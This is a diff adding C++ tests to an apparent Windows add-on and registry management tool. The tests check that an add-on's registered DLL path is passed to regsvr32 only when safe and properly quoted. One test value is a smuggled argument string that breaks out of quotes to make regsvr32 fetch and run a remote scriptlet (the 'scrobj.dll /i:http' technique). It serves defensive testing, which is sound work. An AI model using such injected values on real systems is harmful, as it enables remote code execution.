@@ -11,6 +11,7 @@
 
 #include "platform/RegFile.h"
 #include "platform/win32/Win32Registry.h"
+#include "res/resource.h"
 #include "tests/contract/RegistryDump.h"
 #include "tests/support/ChildProcess.h"
 #include "tests/support/RemoteListView.h"
@@ -228,6 +229,116 @@ TEST_F(AddonProgram, ListsTheRegistryAndRemovesExactlyTheTickedUnprotectedEntrie
     // The toolbar and hook values; each key with its values (1 and 3).
     EXPECT_EQ(imported.size() - left.size(), 8u);
     EXPECT_EQ(Snapshot(), left);
+}
+
+// The system's registration tool, replaced for the test by a program that
+// records how it is started (the test runs say that Wine prefers it to its
+// own, tools/wine-env.sh). Restored when the test ends.
+class RecordingTool {
+public:
+    RecordingTool() {
+        char system[MAX_PATH] = {};
+        GetSystemDirectoryA(system, MAX_PATH);
+        tool_ = std::string(system) + "\\regsvr32.exe";
+        saved_ = tool_ + ".tvsaved";
+        char temp[MAX_PATH] = {};
+        GetTempPathA(MAX_PATH, temp);
+        record_ = std::string(temp) + "tv-regsvr32-" + std::to_string(GetCurrentProcessId()) + ".txt";
+        DeleteFileA(record_.c_str());
+        ready_ = MoveFileA(tool_.c_str(), saved_.c_str()) &&
+                 CopyFileA((ProgramDirectory() + "tv_recorder.exe").c_str(), tool_.c_str(), TRUE);
+        SetEnvironmentVariableA("TV_RECORD_FILE", record_.c_str());
+    }
+    ~RecordingTool() {
+        SetEnvironmentVariableA("TV_RECORD_FILE", nullptr);
+        DeleteFileA(tool_.c_str());
+        MoveFileA(saved_.c_str(), tool_.c_str());
+        DeleteFileA(record_.c_str());
+    }
+    bool Ready() const { return ready_; }
+    const std::string& Tool() const { return tool_; }
+    // The command lines recorded so far, one per start.
+    std::vector<std::string> Lines() const {
+        std::vector<std::string> lines;
+        std::string all = ReadAll(record_);
+        for (std::size_t start = 0, end; (end = all.find('\n', start)) != std::string::npos; start = end + 1)
+            lines.push_back(all.substr(start, end - start));
+        return lines;
+    }
+
+private:
+    static std::string ReadAll(const std::string& path) {
+        HANDLE file = CreateFileA(path.c_str(), GENERIC_READ, FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr,
+                                  OPEN_EXISTING, 0, nullptr);
+        if (file == INVALID_HANDLE_VALUE) return {};
+        std::string text(65536, '\0');
+        DWORD read = 0;
+        ReadFile(file, text.data(), static_cast<DWORD>(text.size()), &read, nullptr);
+        CloseHandle(file);
+        text.resize(read);
+        return text;
+    }
+
+    std::string tool_, saved_, record_;
+    bool ready_ = false;
+};
+
+// A class file whose name would break out of its quotes is never handed to
+// the registration tool; a machine class's file in Program Files is, quoted
+// as one argument, through the tool's full path. Both entries go.
+TEST(AddonRegistration, OnlyASafeFileReachesTheToolQuotedAsOneArgument) {
+    const std::string breakout = "C:\\check\\q.dll\" /n /i:http://h/a.sct scrobj.dll \"";
+    const std::string safe = "C:\\Program Files\\TvRec\\rec.dll";
+    const std::string ids[] = {Id(5, 1), Id(5, 2)};
+    Win32Registry registry;
+    struct Cleanup {
+        Win32Registry& registry;
+        const std::string* ids;
+        ~Cleanup() {
+            for (int i = 0; i < 2; ++i) {
+                RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyAllAccess).DeleteValue(ids[i]);
+                DeleteKeyTree(registry, kHkeyLocalMachine, "SOFTWARE\\Classes\\CLSID\\" + ids[i]);
+            }
+        }
+    } cleanup{registry, ids};
+    for (int i = 0; i < 2; ++i) {
+        RegKey::Create(registry, kHkeyLocalMachine, kToolbarKey).SetString(ids[i], "");
+        RegKey::Create(registry, kHkeyLocalMachine, "SOFTWARE\\Classes\\CLSID\\" + ids[i])
+            .SetString("", i == 0 ? "TvRec Breakout" : "TvRec Safe");
+        RegKey::Create(registry, kHkeyLocalMachine, "SOFTWARE\\Classes\\CLSID\\" + ids[i] + "\\InprocServer32")
+            .SetString("", i == 0 ? breakout : safe);
+    }
+    RecordingTool tool;
+    ASSERT_TRUE(tool.Ready());
+
+    testing::TrimvexProcess program;
+    ASSERT_NE(program.WaitForMain(), nullptr);
+    HWND page = program.OpenTab(1015, {1060, 1065});
+    ASSERT_NE(page, nullptr);
+    testing::RemoteListView list(GetDlgItem(page, 1060));
+    int ticked = 0;
+    for (int r = 0; r < list.ItemCount(); ++r) {
+        if (list.ItemText(r, 0) != ids[0] && list.ItemText(r, 0) != ids[1]) continue;
+        list.SetTicked(r, true);
+        ++ticked;
+    }
+    ASSERT_EQ(ticked, 2);
+    PostMessageA(GetDlgItem(page, 1012), BM_CLICK, 0, 0);
+    auto left = [&] {
+        return RegKey::Open(registry, kHkeyLocalMachine, kToolbarKey, kKeyRead).ValueNames();
+    };
+    DWORD start = GetTickCount();
+    auto gone = [&] {
+        for (const std::string& name : left())
+            if (name == ids[0] || name == ids[1]) return false;
+        return true;
+    };
+    while (!(gone() && !tool.Lines().empty()) && GetTickCount() - start < 10000) Sleep(40);
+    Sleep(500);  // a second start, had there been one, is recorded by now
+    EXPECT_TRUE(gone());
+    EXPECT_EQ(tool.Lines(), std::vector<std::string>{"\"" + tool.Tool() + "\" /u /s \"" + safe + "\""});
+    PostMessageA(program.Main(), WM_COMMAND, MAKEWPARAM(IDC_CLOSE_BUTTON, BN_CLICKED), 0);
+    EXPECT_TRUE(program.WaitForExit(10000));
 }
 
 // ------------------------------------------------------------ security tab
